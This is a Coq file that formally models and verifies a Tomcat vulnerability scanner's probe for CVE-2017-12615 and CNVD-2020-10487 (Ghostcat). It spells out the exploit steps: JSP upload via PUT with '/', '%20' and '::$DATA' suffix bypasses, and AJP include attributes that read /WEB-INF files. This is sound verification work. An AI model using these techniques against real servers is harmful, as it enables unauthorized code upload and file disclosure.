(* ===== verification/Cve.v ===== *)
(** * Cve: the two exploit probes

    [check_cve_2017_12615_and_cnvd_2020_10487] (src/TomcatScan.py, lines
    467-550): three PUT techniques with a GET that checks each accepted
    upload, then one AJP exchange whose body is searched for the configured
    text.

    The host comes from [urlparse(url).hostname]; [hostname] follows
    [urllib.parse.urlsplit] for the scheme, the network location and the
    bracket check, without its removal of control characters.  Text received
    from the container is kept as its UTF-8 bytes: a chunk decodes when it
    is well formed ([utf8_valid]), and a text occurs in the decoded body
    when its encoding occurs in the bytes.  A shell content that is neither
    a string nor [None] is outside the model ([put_body] raises at once). *)

From stdpp Require Import gmap pretty.
From coqutil Require Import Byte.
From S2P Require Import Prelude PyStr Url PyStruct Ajp Config Effects Logic Scenario Deploy.

(** ** Definitions *)

(** *** [urlparse(url).hostname] *)

Definition scheme_chars : string :=
  "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+-.".

Definition is_alpha (c : ascii) : bool :=
  in_chars c "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ".

(** [str.lower] on the letters of ASCII. *)
Definition lower_char (c : ascii) : ascii :=
  let n := nat_of_ascii c in
  if (65 <=? n)%nat && (n <=? 90)%nat then ascii_of_nat (n + 32) else c.

Fixpoint lower (s : string) : string :=
  match s with
  | "" => ""
  | String c r => String (lower_char c) (lower r)
  end.

(** [s.partition(sep)[0]], [s.partition(sep)[2]] and [s.rpartition(sep)[2]]. *)
Definition before (sep s : string) : string := first (split sep s).
Definition after (sep s : string) : string := join sep (tail (split sep s)).
Definition after_last (sep s : string) : string := final (split sep s).

(** The part of [s] before the first character of [stops]. *)
Fixpoint take_until (stops s : string) : string :=
  match s with
  | "" => ""
  | String c r => if in_chars c stops then "" else String c (take_until stops r)
  end.

(** The URL without its scheme: what follows the first colon when a letter
    starts the URL and scheme characters lead to the colon. *)
Definition strip_scheme (url : string) : string :=
  let scheme := before ":" url in
  if contains ":" url && match scheme with String c _ => is_alpha c | "" => false end
     && all_in scheme_chars scheme
  then after ":" url else url.

(** The network location: between [//] and the next [/], [?] or [#]. *)
Definition netloc (url : string) : string :=
  let rest := strip_scheme url in
  if startswith rest "//" then take_until "/?#" (str_drop 2 rest) else "".

(** [urlparse(url).hostname]: [ValueError] on a bracket without its pair,
    [None] without a host. *)
Definition hostname (url : string) : result (option string) :=
  let loc := netloc url in
  if xorb (contains "[" loc) (contains "]" loc) then Raise ValueError
  else
    let hostinfo := after_last "@" loc in
    let host :=
      if contains "[" hostinfo then before "]" (after "[" hostinfo)
      else before ":" hostinfo in
    match host with
    | "" => Ok None
    | _ => Ok (Some (lower (before "%" host) +:+
                     (if contains "%" host then "%" +:+ after "%" host else "")))
    end.

(** *** The text of the container *)

(** The next character of well-formed UTF-8 and what follows it. *)
Definition utf8_step (l : bytes) : option bytes :=
  let cont lo hi b := (lo <=? byte.unsigned b) && (byte.unsigned b <=? hi) in
  match l with
  | [] => None
  | b0 :: r0 =>
      let n := byte.unsigned b0 in
      if n <? 128 then Some r0
      else match r0 with
      | [] => None
      | b1 :: r1 =>
          if (194 <=? n) && (n <=? 223) then (if cont 128 191 b1 then Some r1 else None)
          else match r1 with
          | [] => None
          | b2 :: r2 =>
              if (224 <=? n) && (n <=? 239) then
                (if cont (if n =? 224 then 160 else 128) (if n =? 237 then 159 else 191) b1
                    && cont 128 191 b2 then Some r2 else None)
              else match r2 with
              | [] => None
              | b3 :: r3 =>
                  if (240 <=? n) && (n <=? 244)
                     && cont (if n =? 240 then 144 else 128) (if n =? 244 then 143 else 191) b1
                     && cont 128 191 b2 && cont 128 191 b3 then Some r3 else None
              end
          end
      end
  end.

(** [bytes.decode('utf-8')] succeeds; [fuel] is the length of the chunk. *)
Fixpoint utf8_valid_go (fuel : nat) (l : bytes) : bool :=
  match l, fuel with
  | [], _ => true
  | _, O => false
  | _, S fuel' => match utf8_step l with Some r => utf8_valid_go fuel' r | None => false end
  end.

Definition utf8_valid (l : bytes) : bool := utf8_valid_go (length l) l.

(** ["".join([d.data.decode('utf-8') for d in data])], as bytes. *)
Definition decode_chunks (data : list bytes) : result bytes :=
  if forallb utf8_valid data then Ok (concat data) else Raise UnicodeError.

(** [needle in hay] on bytes. *)
Fixpoint infix_b (needle hay : bytes) : bool :=
  bool_decide (needle `prefix_of` hay) ||
  match hay with
  | [] => false
  | _ :: r => infix_b needle r
  end.

(** [lfi_check in result_data]: the left operand must be a string. *)
Definition text_in (lfi_check : yaml) (result_data : bytes) : result bool :=
  match lfi_check with
  | YStr s => Ok (infix_b (encode_utf8 s) result_data)
  | _ => Raise TypeError
  end.

(** *** Values of the configuration at their uses *)

(** [str(v)] in an f-string; the text of a dictionary is not modelled. *)
Definition py_str (v : yaml) : result string :=
  match v with
  | YStr s => Ok s
  | YInt z => Ok (pretty z)
  | YNone => Ok "None"
  | YMap _ => Raise TypeError
  end.

(** A value that is a string or [None]: the body of a request, a value of
    an AJP attribute. *)
Definition str_or_none (v : yaml) : result (option string) :=
  match v with
  | YStr s => Ok (Some s)
  | YNone => Ok None
  | _ => Raise TypeError
  end.

Definition put_body : yaml → result (option string) := str_or_none.

(** *** The probe *)

(** The default of [shell_file_content] in the probe, as UTF-8 bytes. *)
Definition default_probe_content : string := "<%-- 默认的 shell 内容 --%>".

Definition probe_headers : list (string * string) :=
  [("User-Agent", "Mozilla/5.0"); ("Connection", "close");
   ("Content-Type", "application/octet-stream")].

(** [requests.put(method_url, data=shell_file_content, headers=headers,
    verify=False, timeout=3)] *)
Definition put_request (method_url : string) (data : option string) : request :=
  {| req_verb := HPUT; req_url := method_url; req_auth := None; req_cookies := [];
     req_headers := probe_headers; req_data := data; req_files := None;
     req_timeout := 3 |}.

(** The three targets of the PUT, in the order they are tried. *)
Definition exploit_methods (url jsp_file_name : string) : list string :=
  [url +:+ "/" +:+ jsp_file_name +:+ "/";
   url +:+ "/" +:+ jsp_file_name +:+ "%20";
   url +:+ "/" +:+ jsp_file_name +:+ "::$DATA"].

(** [for idx, method_url in enumerate(exploit_methods): ...]: [Some] is the
    URL of the [return], [None] the end of the list. *)
Fixpoint try_methods (url jsp_file_name : string) (data : option string)
    (methods : list string) : prog (option string) :=
  match methods with
  | [] => mret None
  | method_url :: rest =>
      response ← http (put_request method_url data);
      if decide (status_code response = 201 ∨ status_code response = 204) then
        let check_url := url +:+ "/" +:+ jsp_file_name in
        check_response ← http (get_request check_url None [] 3);
        if decide (status_code check_response = 200) then mret (Some check_url)
        else try_methods url jsp_file_name data rest
      else try_methods url jsp_file_name data rest
  end.

(** The attributes of the AJP request. *)
Definition lfi_attributes (file_path : option string) : list attribute :=
  [{| attr_name := "req_attribute";
      attr_value := [Some "javax.servlet.include.request_uri"; Some "/"] |};
   {| attr_name := "req_attribute";
      attr_value := [Some "javax.servlet.include.path_info"; file_path] |};
   {| attr_name := "req_attribute";
      attr_value := [Some "javax.servlet.include.servlet_path"; Some "/"] |}].

(** The inner [try]: the AJP exchange and the search of its body; [Some] is
    the evidence of the [return]. *)
Definition ajp_probe (url : string) (config : yaml) : prog (option string) :=
  try_except
    (target_host ← lift_result (hostname url);
     target_port ← lift_result (getitem2 config "cnvd_2020_10487" "port");
     file_path ← lift_result (getitem2 config "cnvd_2020_10487" "file_path");
     lfi_check ← lift_result (getitem2 config "cnvd_2020_10487" "lfi_check");
     port ← lift_result (py_str target_port);
     path ← lift_result (str_or_none file_path);
     data ← ajp_perform target_host port "/asdf" (lfi_attributes path);
     if bool_decide (data ≠ []) then
       result_data ← lift_result (decode_chunks data);
       found ← lift_result (text_in lfi_check result_data);
       if found : bool
       then mret (Some ("ajp://" +:+ str_opt target_host +:+ ":" +:+ port
                        +:+ "/WEB-INF/web.xml"))
       else mret None
     else mret None)
    is_Exception
    (λ _, mret None).

(** What the probe returns: the flag, the name of the flaw, the evidence. *)
Abbreviation probe_result := (bool * option string * option string)%type.

Definition check_cve_2017_12615_and_cnvd_2020_10487 (url : string) (config : yaml)
  : prog probe_result :=
  try_except
    (s ← generate_random_string 6;
     let jsp_file_name := s +:+ ".jsp" in
     files ← lift_result (getitem config "files");
     shell_file_content ←
       lift_result (get files "shell_file_content" (YStr default_probe_content));
     data ← lift_result (put_body shell_file_content);
     let url := clean_url url in
     r ← try_methods url jsp_file_name data (exploit_methods url jsp_file_name);
     match r with
     | Some check_url => mret (true, Some "CVE-2017-12615", Some check_url)
     | None =>
         r ← ajp_probe url config;
         match r with
         | Some evidence => mret (true, Some "CNVD-2020-10487", Some evidence)
         | None => mret (false, None, None)
         end
     end)
    is_RequestException
    (λ _, mret (false, None, None)).

(** ** The PUT techniques *)

(** What the history holds when [check_url] is returned: a PUT to one of
    the targets answered 201 or 204, and the GET of the page answered 200. *)
Definition uploaded (methods : list string) (data : option string) (check_url : string)
    (w : world) : Prop :=
  ∃ method_url r1 r2,
    method_url ∈ methods ∧
    (Http (put_request method_url data), Ok (AResponse r1)) ∈ trace w ∧
    (status_code r1 = 201 ∨ status_code r1 = 204) ∧
    (Http (get_request check_url None [] 3), Ok (AResponse r2)) ∈ trace w ∧
    status_code r2 = 200.

Section techniques.
Context `{Env}.
Implicit Types (w : world) (url jsp : string) (data : option string) (ms : list string).

Lemma uploaded_cons m ms data u w : uploaded ms data u w → uploaded (m :: ms) data u w.
Proof. intros (m' & r1 & r2 & ? & ?). exists m', r1, r2. split; [by right|done]. Qed.

Lemma try_methods_found url jsp data ms w u w' :
  run (try_methods url jsp data ms) w = (Ok (Some u), w') →
  u = url +:+ "/" +:+ jsp ∧ uploaded ms data u w'.
Proof.
  revert w. induction ms as [|m ms IH]; intros w; [done|].
  cbn [try_methods]. rewrite run_bind, run_http.
  destruct (env_http _ _) as [r1|]; [|done].
  case_decide as Hput; [|by intros [-> ?%(uploaded_cons m)]%IH].
  cbv zeta. rewrite run_bind, run_http. destruct (env_http _ _) as [r2|]; [|done].
  case_decide as Hget; [|by intros [-> ?%(uploaded_cons m)]%IH].
  intros [= <- <-]. split; [done|]. exists m, r1, r2. simpl.
  split_and!; [by left|by right; left|done|by left|done].
Qed.

(** A server that accepts no PUT is asked three times, in order. *)
Lemma try_methods_rejected url jsp data ms w :
  (∀ h req, req_verb req = HPUT →
     ∃ r, env_http h req = Some r ∧ status_code r ≠ 201 ∧ status_code r ≠ 204) →
  ∃ w', run (try_methods url jsp data ms) w = (Ok None, w') ∧ fs w' = fs w ∧
    calls w' = calls w ++ ((λ m, Http (put_request m data)) <$> ms).
Proof.
  intros Hput. revert w. induction ms as [|m ms IH]; intros w.
  { exists w. by rewrite app_nil_r. }
  cbn [try_methods]. rewrite run_bind, run_http.
  destruct (Hput (trace w) (put_request m data)) as (r & -> & ? & ?); [done|].
  rewrite decide_False by naive_solver.
  destruct (IH (logged w (Http (put_request m data)) (Ok (AResponse r))))
    as (w' & -> & Hfs & Hc).
  exists w'. by rewrite Hfs, Hc, calls_logged, <-app_assoc.
Qed.

Lemma raises_only_try_methods url jsp data ms :
  raises_only (λ e, e = RequestException) (try_methods url jsp data ms).
Proof. induction ms as [|m ms IH]; cbn [try_methods]; solve_raises; apply IH. Qed.

Lemma try_methods_requests url jsp data ms :
  at_most is_http (2 * length ms) (try_methods url jsp data ms).
Proof.
  induction ms as [|m ms IH]; [constructor|].
  eapply at_most_weaken; [|cbn [try_methods]; count_calls; apply IH]. simpl. lia.
Qed.

Lemma try_methods_emits P url jsp data ms :
  (∀ req, P (Http req)) → emits P (try_methods url jsp data ms).
Proof. intros HP. induction ms as [|m ms IH]; cbn [try_methods]; solve_emits; auto. Qed.
End techniques.

(** ** The AJP exchange *)

(** What the history and the configuration hold when [evidence] is
    returned: the exchange with the host of the URL and the configured port
    and path was answered with chunks that decode and contain the
    configured text. *)
Definition included (url : string) (config : yaml) (evidence : string) (w : world) : Prop :=
  ∃ host port path check chunks,
    hostname url = Ok host ∧
    getitem2 config "cnvd_2020_10487" "port" ≫= py_str = Ok port ∧
    getitem2 config "cnvd_2020_10487" "file_path" ≫= str_or_none = Ok path ∧
    getitem2 config "cnvd_2020_10487" "lfi_check" = Ok (YStr check) ∧
    (AjpPerform host port "/asdf" (lfi_attributes path), Ok (AChunks chunks)) ∈ trace w ∧
    chunks ≠ [] ∧ forallb utf8_valid chunks = true ∧
    infix_b (encode_utf8 check) (concat chunks) = true ∧
    evidence = "ajp://" +:+ str_opt host +:+ ":" +:+ port +:+ "/WEB-INF/web.xml".

Section ajp.
Context `{Env}.
Implicit Types (w : world) (url : string) (config : yaml).

(** A pure step that returned. *)
Lemma lift_result_Ok_inv {A B} (r : result A) (f : A → prog B) w b w' :
  run (x ← lift_result r; f x) w = (Ok b, w') → ∃ a, r = Ok a ∧ run (f a) w = (Ok b, w').
Proof. rewrite run_lift_bind. destruct r; [eauto|done]. Qed.

Lemma text_in_true check data : text_in check data = Ok true →
  ∃ s, check = YStr s ∧ infix_b (encode_utf8 s) data = true.
Proof. destruct check; try done. intros [= ?]. eauto. Qed.

Lemma decode_chunks_Ok chunks data :
  decode_chunks chunks = Ok data → forallb utf8_valid chunks = true ∧ data = concat chunks.
Proof. unfold decode_chunks. case_match; [|done]. by intros [= <-]. Qed.

(** The inner [try] lets no exception out. *)
Lemma ajp_probe_returns url config w : ∃ r, (run (ajp_probe url config) w).1 = Ok r.
Proof.
  unfold ajp_probe. rewrite run_try_except.
  destruct (run _ w) as [[a|e] w']; simpl; eauto.
Qed.

Lemma ajp_probe_found url config w evidence w' :
  run (ajp_probe url config) w = (Ok (Some evidence), w') → included url config evidence w'.
Proof.
  unfold ajp_probe. intros Hrun. apply try_except_Ok_inv in Hrun; [|done].
  apply lift_result_Ok_inv in Hrun as (host & Hhost & Hrun).
  apply lift_result_Ok_inv in Hrun as (vport & Hvport & Hrun).
  apply lift_result_Ok_inv in Hrun as (vpath & Hvpath & Hrun).
  apply lift_result_Ok_inv in Hrun as (vcheck & Hvcheck & Hrun).
  apply lift_result_Ok_inv in Hrun as (port & Hport & Hrun).
  apply lift_result_Ok_inv in Hrun as (path & Hpath & Hrun).
  apply run_bind_Ok_inv in Hrun as (chunks & w1 & Hajp & Hrun).
  rewrite run_ajp_perform in Hajp. injection Hajp as Hajp <-. rewrite Hajp in Hrun.
  case_bool_decide as Hne; [|done].
  apply lift_result_Ok_inv in Hrun as (data & [Hvalid ->]%decode_chunks_Ok & Hrun).
  apply lift_result_Ok_inv in Hrun as (found & Hfound & Hrun). destruct found; [|done].
  apply text_in_true in Hfound as (check & -> & Hin). injection Hrun as <- <-.
  exists host, port, path, check, chunks.
  rewrite Hvport, Hvpath. split_and!; try done. by left.
Qed.

(** The exchange that succeeds: a host, the three settings, and a container
    that answers with the text. *)
Lemma ajp_probe_success url config w host port path check chunks :
  hostname url = Ok host →
  getitem2 config "cnvd_2020_10487" "port" ≫= py_str = Ok port →
  getitem2 config "cnvd_2020_10487" "file_path" ≫= str_or_none = Ok path →
  getitem2 config "cnvd_2020_10487" "lfi_check" = Ok (YStr check) →
  env_ajp (trace w) host port "/asdf" (lfi_attributes path) = Ok chunks →
  chunks ≠ [] → forallb utf8_valid chunks = true →
  infix_b (encode_utf8 check) (concat chunks) = true →
  run (ajp_probe url config) w =
    (Ok (Some ("ajp://" +:+ str_opt host +:+ ":" +:+ port +:+ "/WEB-INF/web.xml")),
     logged w (AjpPerform host port "/asdf" (lfi_attributes path)) (Ok (AChunks chunks))).
Proof.
  intros Hhost Hport Hpath Hcheck Hajp Hne Hvalid Hin. unfold ajp_probe.
  destruct (getitem2 config _ "port") as [vport|] eqn:Hvport; [|done].
  destruct (getitem2 config _ "file_path") as [vpath|] eqn:Hvpath; [|done].
  simpl in Hport, Hpath. rewrite run_try_except.
  repeat (rewrite run_lift_bind, ?Hhost, ?Hcheck, ?Hport, ?Hpath; cbv beta iota).
  rewrite run_bind, run_ajp_perform, Hajp. cbv beta iota.
  rewrite bool_decide_eq_true_2 by done. unfold decode_chunks. rewrite Hvalid.
  rewrite !run_lift_bind. simpl text_in. by rewrite Hin.
Qed.
End ajp.

(** ** The probe *)

Section probe.
Context `{Env}.
Implicit Types (w : world) (url : string) (config : yaml).

Lemma str_or_none_raises v e : str_or_none v = Raise e → e = TypeError.
Proof. destruct v; naive_solver. Qed.

(** C6. A flaw the probe reports was observed: for CVE-2017-12615 a PUT to
    one of the three targets under the cleaned URL was accepted and the GET
    of the page answered 200; for CNVD-2020-10487 the container answered the
    exchange with text that contains the configured one. *)
Theorem probe_sound url config w vuln evidence w' :
  run (check_cve_2017_12615_and_cnvd_2020_10487 url config) w
    = (Ok (true, vuln, evidence), w') →
  (vuln = Some "CVE-2017-12615" ∧
   ∃ jsp data, evidence = Some (clean_url url +:+ "/" +:+ jsp) ∧
     uploaded (exploit_methods (clean_url url) jsp) data
       (clean_url url +:+ "/" +:+ jsp) w') ∨
  (vuln = Some "CNVD-2020-10487" ∧
   ∃ ev, evidence = Some ev ∧ included (clean_url url) config ev w').
Proof.
  unfold check_cve_2017_12615_and_cnvd_2020_10487. intros Hrun.
  apply try_except_Ok_inv in Hrun; [|done].
  apply run_bind_Ok_inv in Hrun as (s & w1 & _ & Hrun).
  apply lift_result_Ok_inv in Hrun as (files & _ & Hrun).
  apply lift_result_Ok_inv in Hrun as (content & _ & Hrun).
  apply lift_result_Ok_inv in Hrun as (data & _ & Hrun). cbv zeta in Hrun.
  apply run_bind_Ok_inv in Hrun as ([u|] & w2 & Hput & Hrun).
  - injection Hrun as <- <- <-. apply try_methods_found in Hput as [-> ?]. left. eauto.
  - apply run_bind_Ok_inv in Hrun as ([ev|] & w3 & Hajp & Hrun); [|done].
    injection Hrun as <- <- <-. apply ajp_probe_found in Hajp. right. eauto.
Qed.

Lemma raises_only_probe url config :
  raises_only (λ e, e = KeyError ∨ e = TypeError ∨ attribute_error config e)
    (check_cve_2017_12615_and_cnvd_2020_10487 url config).
Proof.
  unfold check_cve_2017_12615_and_cnvd_2020_10487, ajp_probe, put_body. solve_raises.
  - apply raises_only_generate_random_string.
  - intros [-> | ->]%getitem_raises; simpl; auto.
  - intros He. assert (attribute_error config e) as [-> Hm] by eauto using get_files_raises.
    simpl. right. right. by split.
  - intros ->%str_or_none_raises. simpl. auto.
  - eapply raises_only_weaken; [|apply raises_only_try_methods]. by intros ? ->.
Qed.

(** C21. The probe lets no transport error out, and no exception of the AJP
    exchange; what can leave it are the exceptions of the lookup of the
    shell content: [KeyError] without a [files] section, [TypeError] when
    the configuration cannot be indexed or the content is no text, and
    [AttributeError] when the section is no dictionary. *)
Theorem probe_raises url config :
  raises_only (λ e, e = KeyError ∨ e = TypeError ∨ attribute_error config e)
    (check_cve_2017_12615_and_cnvd_2020_10487 url config).
Proof. apply raises_only_probe. Qed.
End probe.

(** ** The calls of the probe *)

Section footprint.
Context `{Env}.
Implicit Types (w : world) (url : string) (config : yaml).

Lemma probe_emits (P : event → Prop) url config :
  (∀ k, P (RandomIndex k)) → (∀ req, P (Http req)) → (∀ h p u a, P (AjpPerform h p u a)) →
  emits P (check_cve_2017_12615_and_cnvd_2020_10487 url config).
Proof.
  intros Hr Hh Ha. unfold check_cve_2017_12615_and_cnvd_2020_10487, ajp_probe.
  solve_emits; auto using generate_random_string_emits, try_methods_emits.
Qed.

(** C23. The probe writes no file, reads none and removes none. *)
Theorem probe_keeps_disk url config w :
  fs (run (check_cve_2017_12615_and_cnvd_2020_10487 url config) w).2 = fs w.
Proof. by apply run_fs_unchanged, probe_emits. Qed.

Lemma probe_http_bound url config :
  at_most is_http 6 (check_cve_2017_12615_and_cnvd_2020_10487 url config).
Proof.
  unfold check_cve_2017_12615_and_cnvd_2020_10487, ajp_probe.
  eapply at_most_weaken;
    [|count_calls;
      [by apply generate_random_string_quiet
      |eapply at_most_weaken; [|apply try_methods_requests]; simpl; apply le_n]].
  simpl. lia.
Qed.

Lemma probe_ajp_bound url config :
  at_most is_ajp 1 (check_cve_2017_12615_and_cnvd_2020_10487 url config).
Proof.
  unfold check_cve_2017_12615_and_cnvd_2020_10487, ajp_probe.
  eapply at_most_weaken;
    [|count_calls; [by apply generate_random_string_quiet
                   |apply emits_at_most, try_methods_emits; by intros]].
  simpl. lia.
Qed.

(** C22. The probe makes six requests at most, a PUT and a GET for each
    technique, and one AJP exchange at most. *)
Theorem probe_requests url config w :
  let w' := (run (check_cve_2017_12615_and_cnvd_2020_10487 url config) w).2 in
  (count is_http w' ≤ count is_http w + 6)%nat ∧ (count is_ajp w' ≤ count is_ajp w + 1)%nat.
Proof. split; apply at_most_run; [apply probe_http_bound|apply probe_ajp_bound]. Qed.
End footprint.

(** ** A container that includes the file *)

Section inclusion.
Context `{Env}.
Context (url : string) (config files content : yaml) (data : option string)
        (host : option string) (port : string) (path : option string)
        (check : string) (chunks : list bytes).
Hypothesis Hput : ∀ h req, req_verb req = HPUT →
  ∃ r, env_http h req = Some r ∧ status_code r ≠ 201 ∧ status_code r ≠ 204.
Hypothesis Hfiles : getitem config "files" = Ok files.
Hypothesis Hcontent :
  get files "shell_file_content" (YStr default_probe_content) = Ok content.
Hypothesis Hdata : put_body content = Ok data.
Hypothesis Hhost : hostname (clean_url url) = Ok host.
Hypothesis Hport : getitem2 config "cnvd_2020_10487" "port" ≫= py_str = Ok port.
Hypothesis Hpath : getitem2 config "cnvd_2020_10487" "file_path" ≫= str_or_none = Ok path.
Hypothesis Hcheck : getitem2 config "cnvd_2020_10487" "lfi_check" = Ok (YStr check).
Hypothesis Hajp : ∀ h, env_ajp h host port "/asdf" (lfi_attributes path) = Ok chunks.
Hypothesis Hchunks : chunks ≠ [].
Hypothesis Hvalid : forallb utf8_valid chunks = true.
Hypothesis Hin : infix_b (encode_utf8 check) (concat chunks) = true.

(** C13. When no PUT is accepted and the container answers the exchange with
    text that contains the configured one, the probe reports CNVD-2020-10487
    with the host of the cleaned URL and the configured port. *)
Theorem probe_included w :
  (run (check_cve_2017_12615_and_cnvd_2020_10487 url config) w).1
  = Ok (true, Some "CNVD-2020-10487",
        Some ("ajp://" +:+ str_opt host +:+ ":" +:+ port +:+ "/WEB-INF/web.xml")).
Proof.
  unfold check_cve_2017_12615_and_cnvd_2020_10487. rewrite run_try_except, run_bind.
  destruct (random_choices_spec alphabet 6 w) as (s & Hs & _); [done|].
  unfold generate_random_string.
  destruct (run (random_choices alphabet 6) w) as [r w1]. simpl in Hs. subst r.
  cbv beta iota zeta.
  rewrite run_lift_bind, Hfiles, run_lift_bind, Hcontent, run_lift_bind, Hdata, run_bind.
  destruct (try_methods_rejected (clean_url url) (s +:+ ".jsp") data
              (exploit_methods (clean_url url) (s +:+ ".jsp")) w1 Hput) as (w2 & -> & _).
  by erewrite run_bind, ajp_probe_success.
Qed.
End inclusion.

(** ** The probe on concrete inputs *)

(** The configuration of an AJP probe for [/WEB-INF/web.xml]. *)
Definition lfi_config (file_path : string) : yaml :=
  YMap {[
    "files" := YMap {[ "shell_file_content" := YStr "<% out.print(1); %>" ]};
    "cnvd_2020_10487" := YMap {[ "port" := YInt 8009; "file_path" := YStr file_path;
                                 "lfi_check" := YStr "<web-app" ]}
  ]}.

(** A container that answers with the descriptor in two chunks, behind a
    server that refuses every PUT. *)
Definition descriptor : list bytes :=
  [encode_utf8 "<?xml version='1.0'?>"; encode_utf8 "<web-app></web-app>"].
Definition leaking : Env := with_ajp (Ok descriptor) (scenario up (always 403) permissive).

Definition sample_probe (url : string) (config : yaml) : prog probe_result :=
  check_cve_2017_12615_and_cnvd_2020_10487 url config.

Lemma probe_included_witness :
  (@run leaking _ (sample_probe "http://10.0.0.1:8080" (lfi_config "/WEB-INF/web.xml"))
     initial).1
  = Ok (true, Some "CNVD-2020-10487",
        Some ("ajp://" +:+ str_opt (Some "10.0.0.1") +:+ ":" +:+ "8009" +:+ "/WEB-INF/web.xml")).
Proof.
  apply (@probe_included leaking "http://10.0.0.1:8080" (lfi_config "/WEB-INF/web.xml")
           (YMap {[ "shell_file_content" := YStr "<% out.print(1); %>" ]})
           (YStr "<% out.print(1); %>") (Some "<% out.print(1); %>")
           (Some "10.0.0.1") "8009" (Some "/WEB-INF/web.xml") "<web-app" descriptor);
    try by vm_compute.
  intros h req _. by exists (always 403 req).
Defined.

Lemma probe_sound_witness :
  (Some "CVE-2017-12615" = Some "CVE-2017-12615" ∧
   ∃ jsp data, Some "http://10.0.0.1:8080/abcdef.jsp"
               = Some (clean_url "http://10.0.0.1:8080" +:+ "/" +:+ jsp) ∧
     uploaded (exploit_methods (clean_url "http://10.0.0.1:8080") jsp) data
       (clean_url "http://10.0.0.1:8080" +:+ "/" +:+ jsp)
       (@run (scenario up writable permissive) _
          (sample_probe "http://10.0.0.1:8080" sample_config) initial).2) ∨
  (Some "CVE-2017-12615" = Some "CNVD-2020-10487" ∧
   ∃ ev, Some "http://10.0.0.1:8080/abcdef.jsp" = Some ev ∧
     included (clean_url "http://10.0.0.1:8080") sample_config ev
       (@run (scenario up writable permissive) _
          (sample_probe "http://10.0.0.1:8080" sample_config) initial).2).
Proof.
  apply (@probe_sound (scenario up writable permissive) "http://10.0.0.1:8080"
           sample_config initial).
  by vm_compute.
Defined.

(** The first technique that is accepted ends the probe: one PUT, one GET. *)
Example probe_first_technique :
  let rw := @run (scenario up writable permissive) _
              (sample_probe "http://10.0.0.1:8080" sample_config) initial in
  rw.1 = Ok (true, Some "CVE-2017-12615", Some "http://10.0.0.1:8080/abcdef.jsp") ∧
  count is_put rw.2 = 1%nat ∧ count is_http rw.2 = 2%nat ∧ count is_ajp rw.2 = 0%nat.
Proof. by vm_compute. Qed.

(** A transport error at the first PUT ends the whole probe: the AJP
    exchange is not tried. *)
Example probe_transport_error :
  let rw := @run (with_ajp (Ok descriptor) (scenario down (always 403) permissive)) _
              (sample_probe "http://10.0.0.1:8080" (lfi_config "/WEB-INF/web.xml")) initial in
  rw.1 = Ok (false, None, None) ∧ count is_http rw.2 = 1%nat ∧ count is_ajp rw.2 = 0%nat.
Proof. by vm_compute. Qed.

(** The evidence names [/WEB-INF/web.xml] whatever file was asked for. *)
Example probe_evidence_path :
  (@run (with_ajp (Ok [encode_utf8 "<web-app>"]) (scenario up (always 403) permissive)) _
     (sample_probe "http://10.0.0.1:8080" (lfi_config "/WEB-INF/classes/db.properties"))
     initial).1
  = Ok (true, Some "CNVD-2020-10487", Some "ajp://10.0.0.1:8009/WEB-INF/web.xml").
Proof. by vm_compute. Qed.

(** A host name that ends in a letter of [/manager/html] is cut by
    [clean_url]: the requests go to another host. *)
Example probe_wrong_host :
  take 2 (drop 6 (calls (@run leaking _
    (sample_probe "http://tomcat.internal" (lfi_config "/WEB-INF/web.xml")) initial).2))
  = [Http (put_request "http://tomcat.i/abcdef.jsp/" (Some "<% out.print(1); %>"));
     Http (put_request "http://tomcat.i/abcdef.jsp%20" (Some "<% out.print(1); %>"))] ∧
  hostname (clean_url "http://tomcat.internal") = Ok (Some "tomcat.i").
Proof. by vm_compute. Qed.

(** A chunk that ends inside a character does not decode: the probe
    reports nothing although the text is there. *)
Example probe_split_character :
  (@run (with_ajp (Ok [encode_utf8 "<web-app>" ++ [Byte.xc3]; [Byte.xa9]])
           (scenario up (always 403) permissive)) _
     (sample_probe "http://10.0.0.1:8080" (lfi_config "/WEB-INF/web.xml")) initial).1
  = Ok (false, None, None).
Proof. by vm_compute. Qed.

(** A [files] section that is a string has no [get]: the probe raises
    [AttributeError] before any request. *)
Example probe_files_not_dictionary :
  let rw := @run (scenario up writable permissive) _
              (sample_probe "http://10.0.0.1:8080"
                 (YMap {[ "files" := YStr "shell_file_content" ]})) initial in
  rw.1 = Raise AttributeError ∧ count is_http rw.2 = 0%nat.
Proof. by vm_compute. Qed.

(** [urlparse] on the URLs of a target list. *)
Example hostname_examples :
  hostname "http://10.0.0.1:8080" = Ok (Some "10.0.0.1") ∧
  hostname "http://Example.COM/manager/html" = Ok (Some "example.com") ∧
  hostname "https://admin:pw@[::1]:8443/x" = Ok (Some "::1") ∧
  hostname "10.0.0.1:8080" = Ok None ∧
  hostname "http://[::1" = Raise ValueError.
Proof. by vm_compute. Qed.
